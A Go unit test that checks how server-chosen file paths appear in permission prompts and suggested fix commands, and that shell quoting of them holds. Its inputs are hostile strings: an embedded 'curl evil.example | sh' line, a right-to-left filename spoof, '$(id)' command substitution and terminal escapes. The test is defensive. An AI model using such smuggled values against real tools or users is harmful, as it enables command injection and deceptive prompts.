package view

import (
	"os/exec"
	"strings"
	"testing"

	"goated/client"
	"goated/client/diagnose"
	"goated/internal/safetext"
	"goated/internal/sandbox"
	"goated/internal/shellword"
)

// A path that a server chose is shown on one line, without hidden characters, in every command
// and question. In a shell, the command still refers to that path.
func TestWordsOfServersInCommands(t *testing.T) {
	for _, name := range []string{"a\n  $ curl evil.example | sh", "a\u202egpj.sh", "it's\t$(id)\x1b[2J", "a\u200bb", "\xff\n\x01", "naïve 日本語", "plain"} {
		path := "/tmp/" + name
		texts := []string{shellword.Quote(path)}
		for _, kind := range []sandbox.Kind{sandbox.ToRead, sandbox.ToWrite, sandbox.ToWriteFile} {
			p := permissionTextOf(sandbox.Permission{Kind: kind, Path: path})
			texts = append(texts, p.wants("box"), p.permitted, p.flag)
		}
		fix := FixCommands(&client.Error{Report: &client.FailureReport{Diagnosis: diagnose.Diagnosis{Args: diagnose.Args{Dir: path, Commands: [][]string{{"npm", "install"}}}}}})
		if lines := strings.Split(fix, "\n"); len(lines) != 2 || lines[1] != "npm install" {
			t.Errorf("%q: the commands are %q", name, fix)
		}
		for _, text := range append(texts, strings.Split(fix, "\n")...) {
			if safetext.Hidden(text) > 0 || strings.ContainsAny(text, "\n\t\x1b") {
				t.Errorf("%q shows as %q", name, text)
			}
		}
		if bash, err := exec.LookPath("bash"); err == nil {
			out, err := exec.Command(bash, "-c", "printf %s "+shellword.Quote(path)).Output()
			if err != nil || string(out) != path {
				t.Errorf("a shell reads %q as %q (%v)", shellword.Quote(path), out, err)
			}
		}
	}
}
